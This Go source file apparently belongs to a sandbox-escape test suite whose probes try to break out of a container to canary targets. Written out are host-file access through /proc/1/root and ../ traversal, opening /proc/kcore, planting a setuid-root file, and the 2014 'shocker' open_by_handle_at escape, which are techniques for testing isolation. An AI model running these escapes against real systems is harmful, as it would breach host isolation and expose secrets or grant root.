package probes

import (
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// secretBytes is more than any canary holds.
const secretBytes = 256

// ways are paths by which programs have left a root that was not theirs.
func ways(path string) []string {
	return []string{
		path,
		"/proc/1/root" + path,
		"/proc/self/root/" + strings.Repeat("../", 16) + path,
		"/proc/self/cwd/" + strings.Repeat("../", 16) + path,
	}
}

func readHostFile(t *Try) error {
	var last error
	for _, path := range ways(t.Targets.Dir + "/secret") {
		text, err := os.ReadFile(path)
		if err == nil {
			t.Answer = cut(text)
			return nil
		}
		last = err
	}
	return last
}

func writeHostFile(t *Try) error {
	var last error
	for _, path := range ways(t.Targets.Dir + "/mark") {
		file, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
		if err == nil {
			_, err = file.WriteString(t.Nonce + "\n")
			return errors.Join(err, file.Close())
		}
		last = err
	}
	return last
}

// openForWriting opens what would harm the host if it were written to. It is not.
func openForWriting(path string) func(*Try) error {
	return func(t *Try) error {
		file, err := os.OpenFile(path, os.O_WRONLY, 0)
		if err != nil {
			return err
		}
		defer file.Close()
		t.Hold()
		return nil
	}
}

func openKernelMemory(t *Try) error {
	file, err := os.Open("/proc/kcore")
	if err != nil {
		return err
	}
	defer file.Close()
	t.Hold()
	return nil
}

// makeSuidFile leaves a program of root's that runs as root for whoever starts it on the host.
func makeSuidFile(t *Try) error {
	name := os.Getenv("SBX_DIR_BIND") + "/suid-" + t.Nonce
	if err := os.WriteFile(name, nil, 0o755); err != nil {
		return err
	}
	defer os.Remove(name)
	if err := unix.Chown(name, 0, 0); err != nil {
		return fmt.Errorf("chown: %w", err)
	}
	if err := unix.Chmod(name, 0o4755); err != nil {
		return fmt.Errorf("chmod: %w", err)
	}
	t.Hold()
	return nil
}

// openByHandle opens a host's file without a path to it (the "shocker" exploit of 2014).
func openByHandle(t *Try) error {
	handle, err := base64.StdEncoding.DecodeString(t.Targets.Handle)
	if err != nil || len(handle) == 0 {
		return fmt.Errorf("the host's file has no handle: %w", unix.EOPNOTSUPP)
	}
	mount, err := unix.Open(os.Getenv("SBX_DIR_BIND"), unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(mount)
	fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(t.Targets.HandleType, handle), unix.O_RDONLY|unix.O_CLOEXEC)
	if err != nil {
		return err
	}
	file := os.NewFile(uintptr(fd), "handle")
	defer file.Close()
	text, err := io.ReadAll(io.LimitReader(file, secretBytes))
	t.Answer = cut(text)
	return err
}

func hostSocket(t *Try) error {
	return leaveAt(t, "unix", t.Targets.Dir+"/socket")
}

func hostFifo(t *Try) error {
	fd, err := unix.Open(t.Targets.Dir+"/fifo", unix.O_WRONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	_, err = unix.Write(fd, []byte(t.Nonce+"\n"))
	return err
}

// leaveAt leaves the nonce at a listener, which answers when it has it.
func leaveAt(t *Try, network, address string) error {
	connection, err := net.DialTimeout(network, address, time.Second)
	if err != nil {
		return err
	}
	defer connection.Close()
	connection.SetDeadline(time.Now().Add(time.Second))
	if _, err := connection.Write([]byte(t.Nonce + "\n")); err != nil {
		return err
	}
	_, err = connection.Read(make([]byte, 1))
	return err
}

func cut(text []byte) string {
	return strings.TrimSpace(string(text[:min(len(text), secretBytes)]))
}
